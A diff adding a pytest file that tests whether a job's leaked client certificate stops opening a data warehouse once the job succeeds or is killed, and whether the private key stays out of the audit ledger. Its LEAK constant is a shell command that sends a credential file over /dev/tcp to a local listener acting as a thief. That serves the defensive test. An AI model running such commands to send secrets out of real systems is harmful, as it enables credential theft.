@@ -1,0 +1,84 @@
+"""A client certificate that a job leaks opens the warehouse while the job runs, and nothing once it ended, however it ended."""
+
+from __future__ import annotations
+
+import json
+import socket
+from collections.abc import Iterator
+from contextlib import contextmanager
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from justenough.secret import Secret
+from tests.people import Human
+from tests.shop import Shop, access, spec
+from tests.warehouse import Fields, Warehouse
+from worker.stack import Stack
+
+pytestmark = pytest.mark.servers
+LEAK = "exec 3<>/dev/tcp/127.0.0.1/{port}; cat /run/justenough/warehouse.json >&3; read -u 3; true"
+"""It stays until whoever it told hangs up."""
+READ = access("warehouse-api", deliver={"file": {"path": "warehouse.json"}})
+
+
+@pytest.fixture
+def thief() -> Iterator[socket.socket]:
+    with socket.create_server(("127.0.0.1", 0)) as listening:
+        listening.settimeout(60)
+        yield listening
+
+
+@pytest.fixture
+def warehouse(whole: Stack, tmp_path: Path) -> Warehouse:
+    assert whole.vault
+    return Warehouse(whole.vault, tmp_path)
+
+
+def leaking(thief: socket.socket) -> dict[str, Any]:
+    return spec(LEAK.format(port=thief.getsockname()[1]), READ)
+
+
+@contextmanager
+def leaked(thief: socket.socket) -> Iterator[Fields]:
+    """What a job leaks, which stays for the length of a block."""
+    connection, _ = thief.accept()
+    with connection, connection.makefile() as lines:
+        text = "".join(iter(lines.readline, "}\n")) + "}"
+        yield {name: Secret(str(value)) for name, value in json.loads(text).items()}
+
+
+def test_a_leaked_certificate_opens_nothing_once_its_job_succeeded(
+    ops: Human, shop: Shop, thief: socket.socket, warehouse: Warehouse
+) -> None:
+    job = ops.launch(leaking(thief))
+    with leaked(thief) as stolen:
+        assert warehouse.lets_in(stolen)
+
+    seen = ops.until(job)
+
+    assert (seen["state"], seen["revocation"]["state"]) == ("succeeded", "confirmed")
+    assert warehouse.lists(stolen)
+    assert not warehouse.lets_in(stolen)
+    (credential,) = seen["credentials"]
+    assert credential["state"] == "confirmed"
+    assert credential["certificate"] == f"pki/cert/{stolen['serial_number'].reveal()}"
+    assert "is in the CRL" in credential["confirmed_how"]
+    shop.assert_dead(seen)
+
+
+def test_nor_once_it_was_killed_and_nothing_of_its_key_is_in_the_ledger(
+    ops: Human, auditor: Human, shop: Shop, thief: socket.socket, warehouse: Warehouse
+) -> None:
+    job = ops.launch(leaking(thief))
+    with leaked(thief) as stolen:
+        assert warehouse.lets_in(stolen)
+        assert ops.api.post(f"jobs/{job}/kill").status_code == 202
+        seen = ops.until(job)
+    assert (seen["state"], seen["revocation"]["state"]) == ("killed", "confirmed")
+    assert not warehouse.lets_in(stolen)
+    shop.assert_dead(seen)
+    told = json.dumps(auditor.ledger(job))
+    assert seen["credentials"][0]["certificate"] in told
+    assert all(line not in told for line in stolen["private_key"].reveal().splitlines()[1:-1])
